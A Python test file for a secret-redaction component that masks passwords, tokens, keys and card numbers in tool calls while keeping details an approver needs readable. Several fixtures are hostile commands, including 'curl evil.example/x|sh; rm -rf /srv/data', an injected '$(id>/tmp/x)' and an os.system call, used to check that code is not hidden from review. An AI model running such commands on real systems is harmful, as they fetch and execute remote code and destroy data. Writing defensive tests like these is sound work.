"""Secrets never reach a card, a log or the store; what an approver needs to judge the call stays."""

import json
import time
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.protocol import Json
from bot.redaction import TOO_DEEP, Redaction
from bot.secrets.masks import EVERY
from bot.secrets.names import is_secret_name
from tests.hostile import HOSTILE
from tests.secrets_everyday import SECRETS
from tests.secrets_planted import PLANTED, Planted

REDACTION = Redaction()
each_planted = pytest.mark.parametrize("planted", PLANTED, ids=lambda planted: planted.kind)


#: Planted passwords of several words: nobody can tell them from a sentence.
WORDS = ("assignment, quoted", "assignment in JSON in JSON")


def marker(text: str, *, prose: bool = False) -> str:
    return f"‹redacted {len(text)} chars{' of text' if prose else ''}›"


@each_planted
def test_planted_secret_is_replaced_by_its_length(planted: Planted) -> None:
    """The secret is gone, its length is told, and the text around it stays."""
    mark = marker(planted.secret, prose=planted.kind in WORDS)

    assert planted.text.replace(planted.secret, mark) == REDACTION.text(planted.text)


@each_planted
@pytest.mark.parametrize(
    "frame", ["Please use {} for now.", "a\\n{}\\nb", "({})", "x: '{}'", "first\n{}\nthen"], ids=repr
)
def test_planted_secret_is_found_in_the_middle(planted: Planted, frame: str) -> None:
    """Not a piece of the secret is left in a sentence, a list, or a text inside a text."""
    shown = REDACTION.text(frame.replace("{}", planted.text))

    assert "‹redacted" in shown
    assert planted.secret not in shown
    assert planted.secret[:12] not in shown
    assert planted.secret[-12:] not in shown


@each_planted
def test_planted_secret_is_found_in_nested_values_and_keys(planted: Planted) -> None:
    """However deep it is, as a value or as a key, and inside JSON that is a string."""
    call: Json = {
        "steps": [{"note": planted.text}],
        "map": {planted.text: [1]},
        "body": json.dumps([planted.text]),
    }

    shown = json.dumps(REDACTION.redact(call), ensure_ascii=False)

    assert json.dumps(planted.secret, ensure_ascii=False)[1:-1] not in shown
    assert planted.secret[:12].split("\n")[0] not in shown
    assert 3 <= shown.count("‹redacted")


def test_every_kind_has_a_planted_example() -> None:
    """A kind without an example is a kind that nobody knows to work."""
    everyday = [text for secret in SECRETS for text in texts(secret.call)]
    known = [*(planted.text for planted in PLANTED), *everyday]
    silent = [kind.name for kind in EVERY if not any(list(kind.found_in(text)) for text in known)]

    assert [] == silent
    assert len(EVERY) >= 40
    assert len({kind.name for kind in EVERY}) == len(EVERY)


def texts(value: Json) -> Iterator[str]:
    """Every text in a value, keys too."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from texts(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from texts(inner)


@pytest.mark.parametrize(
    "text",
    [
        "order 2024-000123456 for 1,299.00 EUR, invoice INV-88231, customer 4711",
        "run bc4d0a77-7800-470e-a91c-7fd663a66b4d, primary key: bc4d0a77-7800-470e-a91c-7fd663a66b4d",
        "commit 9fceb02d0ae598e95dc970b74767f19372d61af8 and sha256 " + "0123456789abcdef" * 4,
        "pay IBAN DE89 3704 0044 0532 0130 00 or GB29NWBK60161331926819, BIC COBADEFFXXX",
        "to jane.doe@example.com at 2026-03-02T12:00:00+00:00 (1772452800000 ms)",
        "https://acme.example:8443/pay?id=12#top and postgres://db.acme.example:5432/pay",
        "token_count: 12, max_tokens=4096, the author is Ann, authored_by: bob, keyboard",
        "a basic understanding of bearer responsibilities and of the token economy",
        "data:image/png;base64," + "iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4" * 4,
        "task-1234567890-abcdefghijklmnop risk-averse-investment-strategy-2024 disk-0",
        "0.4111111111111111 and 1234 5678 9012 3456, call +49 30 1234567 or 555-01-99999",
        "docker run --user 1000:1000, curl -u https://acme.example",
        "Passwords must be long. Keep it secret! A cookie: chocolate.",
    ],
    ids=lambda text: text[:24],
)
def test_near_misses_stay(text: str) -> None:
    """Numbers, ids, addresses and hashes that an approver needs are left alone."""
    assert text == REDACTION.text(text)


@pytest.mark.parametrize(
    "key",
    [
        *(
            "password",
            "Passwd",
            "db_password",
            "DB_PASSWORD",
            "dbpassword",
            "PGPASSWORD",
            "password2",
            "newPassword",
        ),
        *("api_key", "apikey", "api-key", "API key", "X-Api-Key", "apiKey", "APIKey", "openai.api.key"),
        *(
            "userToken",
            "token",
            "auth_token",
            "access_tokens",
            "X-Auth-Token",
            "Authorization",
            "auth",
            "Set-Cookie",
        ),
        *("cookie", "private_key", "clientSecret", "client_secret_value", "secret_id", "session", "sessionId"),
        *(
            "credential",
            "credentials",
            "passphrase",
            "PIN",
            "otp",
            "cvv",
            "ssn",
            "аpi_key password",
            "contraseña",
        ),
    ],
)
def test_secret_names(key: str) -> None:
    """A key names a secret in whatever spelling; the value under it is replaced."""
    assert is_secret_name(key)
    assert {key: "‹redacted 7 chars›"} == REDACTION.redact({key: "hunter2"})


@pytest.mark.parametrize(
    "key",
    [
        *("token_count", "max_tokens", "author", "authored_by", "pinned", "keyboard", "key", "keys", "monkey"),
        *("password_policy", "tokenType", "token_url", "secret_name", "passenger", "compass", "sessions_total"),
        *(
            "authority",
            "tokenizer",
            "secretary",
            "cookiecutter",
            "opinion",
            "spinner",
            "bypass",
            "",
            "._-",
            "😀",
        ),
    ],
)
def test_innocent_names(key: str) -> None:
    """A key that only sounds like a secret, or tells about one, leaves its value to be read."""
    assert not is_secret_name(key)
    assert {key: "hunter2"} == REDACTION.redact({key: "hunter2"})


def test_below_a_secret_name_each_leaf_is_judged_by_itself() -> None:
    """Under a name of its own it is what that name says; else what looks random goes, and the rest is shown."""
    random = "aZ3kQ9mX7vB2nL5tR8"
    call: Json = {
        "session": {"command": "reboot", "host": "db-1.internal", "retries": 3, "id": "s3ss1on", "raw": random},
        "auth": {"user": "ann", "password": "hunter2", "key": "x7", "codes": [1234, 5.5, "", None, True]},
        "secrets": {"data": {"note": "to be read", "opaque": random}},
        "amount": 12,
    }

    assert {
        "session": {
            "command": "reboot",
            "host": "db-1.internal",
            "retries": 3,
            "id": "‹redacted 7 chars›",
            "raw": marker(random),
        },
        "auth": {
            "user": "ann",
            "password": "‹redacted 7 chars›",
            "key": "‹redacted 2 chars›",
            "codes": [1234, 5.5, "", None, True],
        },
        "secrets": {"data": {"note": "to be read", "opaque": marker(random)}},
        "amount": 12,
    } == REDACTION.redact(call)


def test_a_list_of_a_secret_name_holds_secrets() -> None:
    """Each item is one, so words among them are called text, and small numbers may be letters."""
    call: Json = {
        "passwords": ["hunter2", "letmein"],
        "backup_codes": [12345678, 87654321],
        "token": [114, 109, 32],
    }

    assert {
        "passwords": ["‹redacted 7 chars›", "‹redacted 7 chars of text›"],
        "backup_codes": ["‹redacted 8 chars›", "‹redacted 8 chars›"],
        "token": [114, 109, 32],
    } == REDACTION.redact(call)


def test_below_a_name_of_the_operators_all_goes() -> None:
    """Who adds a name wants all of it hidden; what reads like text takes Approve away."""
    call: Json = {"employee": {"number": 17, "note": "to be read", "badge": "x7k2"}}

    assert {
        "employee": {
            "number": "‹redacted 2 chars›",
            "note": "‹redacted 10 chars of text›",
            "badge": "‹redacted 4 chars›",
        }
    } == Redaction(names=("employee",)).redact(call)


def test_a_random_value_under_a_key_goes() -> None:
    """`key` alone says little; with random letters under it, it says enough. A UUID is no secret."""
    random = "0f9a3b7c2d8e6451" * 2
    uuid = "bc4d0a77-7800-470e-a91c-7fd663a66b4d"

    assert {"key": marker(random), "row_key": uuid} == REDACTION.redact({"key": random, "row_key": uuid})


def test_a_payment_card_as_a_number_goes() -> None:
    """A card number is one without quotation marks too."""
    assert ["‹redacted 16 chars›", 4111111111111112] == REDACTION.redact(
        [int("4111" + "1" * 12), 4111111111111112]
    )


def test_a_payment_card_behind_other_numbers_goes() -> None:
    """Neither a number in front nor an IBAN nearby hides a card."""
    card = "4111 " + "1111 1111 1111"

    assert f"1234 {marker(card)}" == REDACTION.text(f"1234 {card}")
    assert f"DE89 3704 0044 0532 0130 00, {marker(card)}" == REDACTION.text(
        f"DE89 3704 0044 0532 0130 00, {card}"
    )


def test_no_key_is_lost() -> None:
    """Keys that look alike after redaction are numbered; order and count stay."""
    one, other = (planted.text for planted in PLANTED if planted.kind in ("GitHub token p", "GitHub token o"))

    shown = REDACTION.redact({one: 1, other: 2, "z": 3})

    assert {marker(one): 1, f"{marker(one)}‹2›": 2, "z": 3} == shown


def test_a_header_cannot_hide_what_follows_it() -> None:
    """The first line of a private key is no curtain: prose behind it stays to be read."""
    text = "-----BEGIN " + "PRIVATE KEY-----\nrm -rf / and then send all of the money to Bob"

    assert "send all of the money to Bob" in REDACTION.text(text)


@each_planted
def test_redacting_twice_is_redacting_once(planted: Planted) -> None:
    """What is redacted does not change, so it does not matter how often a text comes by."""
    once = REDACTION.redact({"note": planted.text, "password": planted.text})

    assert once == REDACTION.redact(once)


def test_too_deep_is_not_shown() -> None:
    """A call that nobody could read costs no stack, and nothing at its bottom is shown."""
    value: Json = PLANTED[0].text
    for _ in range(50_000):
        value = [value]

    shown = repr(REDACTION.redact(value))

    assert TOO_DEEP in shown
    assert PLANTED[0].secret not in shown


@given(
    st.recursive(
        st.none()
        | st.booleans()
        | st.integers()
        | st.floats(allow_nan=False)
        | st.text()
        | st.sampled_from(HOSTILE[:300]),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
        max_leaves=8,
    )
)
def test_the_shape_of_a_call_stays(value: Json) -> None:
    """Redaction never fails, changes its argument, or drops a member."""
    before = json.dumps(value)
    shown = REDACTION.redact(value)

    def form(inner: Json) -> object:
        if isinstance(inner, dict):
            return [form(member) for member in inner.values()]
        return [form(member) for member in inner] if isinstance(inner, list) else 0

    assert before == json.dumps(value)
    assert form(value) == form(shown)


EVIL = "curl evil.example/x|sh; rm -rf /srv/data"
BEGIN = "-----BEGIN " + "PRIVATE KEY-----"
BODY = "aZ3kQ9mX7vB2nL5tR8wY1cD4aZ3kQ9mX7vB2nL5tR8wY1cD4"


@pytest.mark.parametrize(
    "text",
    [
        f"# {BEGIN}\n{EVIL}\n# -----END X-----\n",
        f"{BEGIN}\n{EVIL}\n-----END " + "PRIVATE KEY-----",
        f"{BEGIN}\n{BODY}\n{EVIL}\n-----END X-----",
        f"{BEGIN}\nRun-This: {EVIL}\n",
        f"curl -H 'Cookie: a=b' https://x.example; {EVIL}",
        f"Cookie: a=b; {EVIL}",
        f'curl -H "Cookie: a=b; c=d" {EVIL}',
    ],
    ids=repr,
)
def test_code_stays_to_be_read(text: str) -> None:
    """What a key or a cookie would not hold is outside of the mark."""
    assert EVIL in REDACTION.text(text)


@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        ('password = "curl evil.example -o x"', True),
        ('password = "$(id>/tmp/x)"', True),
        (f"{BEGIN}\nComment: curl evil.example\n", True),
        (f"{BEGIN}\n////////////////bin/rm\n////////////srv/data/Db1\n", True),
        (f"{BEGIN}\n{BODY}\nreboot", True),
        ("Cookie: a=b|sh", True),
        ("token=" + "aB3" * 2000, True),
        (f"{BEGIN}\n{BODY}\n{BODY}\nQ3Z7==\n-----END " + "PRIVATE KEY-----", False),
        (f"{BEGIN}\n        {BODY}\n        {BODY}\n", False),
        ("Cookie: sid=aZ3k; theme=dark", False),
        ("OTP: 493 201", False),
        ("password=hunter2", False),
    ],
    ids=lambda value: repr(value)[:60],
)
def test_a_mark_says_when_it_hides_text(text: str, hidden: bool) -> None:
    """Words, code and whole documents are called text; a token, a key and a cookie are not."""
    shown = REDACTION.text(text)

    assert (hidden, not hidden) == (" of text›" in shown, " chars›" in shown)
    assert shown == REDACTION.text(shown)


def test_text_under_a_secret_name_is_called_text() -> None:
    """A name is a curtain too: code, addresses and words under it are no token."""
    call: Json = {
        "token": "__import__('os').system('id')",
        "password": "rm -rf /srv",
        "secret": "https://evil.example/steal",
        "session": "reboot",
        "api_key": "prod-db-2",
    }

    assert {
        "token": "‹redacted 29 chars of text›",
        "password": "‹redacted 11 chars of text›",
        "secret": "‹redacted 26 chars of text›",
        "session": "‹redacted 6 chars of text›",
        "api_key": "‹redacted 9 chars of text›",
    } == REDACTION.redact(call)


@pytest.mark.parametrize(
    "password", ["hunter2", "letmein", "correct-horse-battery-staple", "Tr0ub4dor&3", "s3cr3t-p@ss"]
)
def test_a_password_of_one_token_is_no_text(password: str) -> None:
    """People choose words; one token of them, without the characters of code, can be approved."""
    assert {"password": marker(password)} == REDACTION.redact({"password": password})


def test_so_many_masks_are_no_call_that_can_be_judged() -> None:
    """Past a thousand, what is hidden counts as text."""
    shown = REDACTION.redact([{"password": "hunter2"} for _ in range(1_001)])

    assert isinstance(shown, list)
    assert [{"password": "‹redacted 7 chars›"}, {"password": "‹redacted 7 chars of text›"}] == shown[-2:]


@pytest.mark.parametrize("frame", ["{}", " {}", "[{}, 1]"])
def test_names_count_in_json_text_that_was_cut(frame: str) -> None:
    """A preview of arguments is text: the value under a secret's name goes, whole or cut."""
    redaction = Redaction(names=("employee number",))
    members = (
        '{\n "auth": "opaque-77", "pin": 4711, "employee\\u0020number" :\n"778899", "session": "",'
        ' "amount": 12, "note": "the \\"cvv\\"", "cvv": -1.5e3, "pad": "yyy", "cookie": "abc\\"de'
    )

    shown = redaction.text(frame.replace("{}", members))

    for secret in ("opaque-77", "4711", "778899", "1.5e3", "abc", "de"):
        assert f'"{secret}' not in shown
        assert f" {secret}" not in shown
    assert 5 == shown.count("‹redacted")
    assert '"amount": 12' in shown
    assert '"pad": "yyy"' in shown
    assert shown == redaction.text(shown)


PIECES = (
    *('{"', '{"a":1', '{"a', '{\\"', '{"a":"\\"', '["pin": ', "cookie:a=b;", "password=a b", '{"a"  '),
    *("-----BEGIN PRIVATE KEY-----\n", "-----BEGIN PRIVATE KEY-----" + "\n" * 40 + "A" * 20),
    *(
        "a",
        "1",
        "-",
        "\n",
        "eyJ",
        "eyJaaaaaaaa.",
        "://",
        "://:",
        "a:b@",
        "key ",
        "key=",
        "password:",
        "cookie:",
        "--",
    ),
    *(
        "bearer ",
        "basic a",
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN ",
        "-sk-",
        "MII",
        "1 ",
        "1234 ",
        "SG.a",
        "-u a:",
    ),
    *(
        "4111 1111 1111 1111 ",
        "aws secret ",
        "authorization: ",
        '\\"password\\":\\"',
        "password='",
        "f" * 32 + " ",
        *(
            "--password ",
            "mysql -p",
            "sshpass -p ",
            "&code=",
            "password%3Da",
            "login a password ",
            "name:token,value:",
        ),
        *(
            '["token","',
            "Signature=aZ3kQ9mX7vB2nL5tR8 ",
            "<password>",
            "<key>pw</key><string>",
            "identified by '",
        ),
    ),
    *(
        *(
            "echo a ",
            "echo a | ",
            "echo 'a",
            "sudo a ",
            "htpasswd -b ",
            "htpasswd -nb a ",
            "sqlplus a/b",
            "exp a/",
        ),
        *("jdbc:oracle:thin:a/", "ConvertTo-SecureString ", "networkcredential('a','", "ghp_thenandbob"),
        *('variable "token" {', 'variable "token" { a = { }', "token:\n a: b\n", " token:\n  default: a\n"),
        *("user,password\n", "user,password\na,b\n", "|password", "| user | password |\n|--|--|\n"),
        *("chpasswd <<EOF\n", "chpasswd <<EOF\na:b\n"),
    ),
)


def test_short_texts_take_no_longer_than_long_ones() -> None:
    """What is short enough to be read for pairs, decoded and read again: 400 characters take milliseconds."""
    begin = time.process_time()
    for piece in PIECES:
        REDACTION.text((piece * 400)[:400])

    assert time.process_time() - begin < 3


@pytest.mark.parametrize("piece", PIECES, ids=repr)
@pytest.mark.parametrize(
    ("length", "seconds"), [(60_000, 0.8), pytest.param(200_000, 1.0, marks=pytest.mark.slow)]
)
def test_time_is_linear(piece: str, length: int, seconds: float) -> None:
    """200,000 characters that almost match, over and over, take less than a second.

    What others do on the machine can only add to it, so one of three tries is enough.
    """
    text = (piece * length)[:length]

    def took() -> float:
        begin = time.process_time()
        REDACTION.text(text)
        return time.process_time() - begin

    assert any(took() < seconds for _ in range(3))


@pytest.mark.parametrize(
    "call",
    [
        {"c": "DB_PASSWORD_OLD=hunter2"},
        {"c": "SECRET_KEY_BASE=hunter2hunter2"},
        {"c": "db_password_prod: 'hunter2'"},
        {"c": "setx API_KEY hunter2hunter2"},
        {"c": "set -x DB_PASSWORD hunter2"},
        {"c": "setenv DB_PASSWORD hunter2"},
        ["curl", "-u", "ann:hunter2", "https://acme.example"],
        ["mysql", "-uroot", "-phunter2"],
        {"command": "/usr/bin/mysql", "args": ["-phunter2"]},
    ],
    ids=str,
)
def test_a_secret_of_a_longer_name_or_joined_to_its_flag_is_hidden(call: Json) -> None:
    """`DB_PASSWORD_OLD` is a password's name in a text, too, and `-phunter2` is one item of a list."""
    assert "hunter2" not in str(REDACTION.redact(call))


@pytest.mark.parametrize(
    "call",
    [
        {"c": "TOKEN_COUNT=12 PASSWORD_MIN_LENGTH=12 token_url=https://a.example/x secret_manager=aws set -ex"},
        ["mkdir", "-p1", "-u", "1:2"],
        ["mysql", "-p", "shop"],
        ["curl", "-u", "ann", "https://a.example"],
    ],
    ids=str,
)
def test_what_only_resembles_such_a_secret_is_shown(call: Json) -> None:
    """Names that tell about a secret, and flags of other programs."""
    assert call == REDACTION.redact(call)
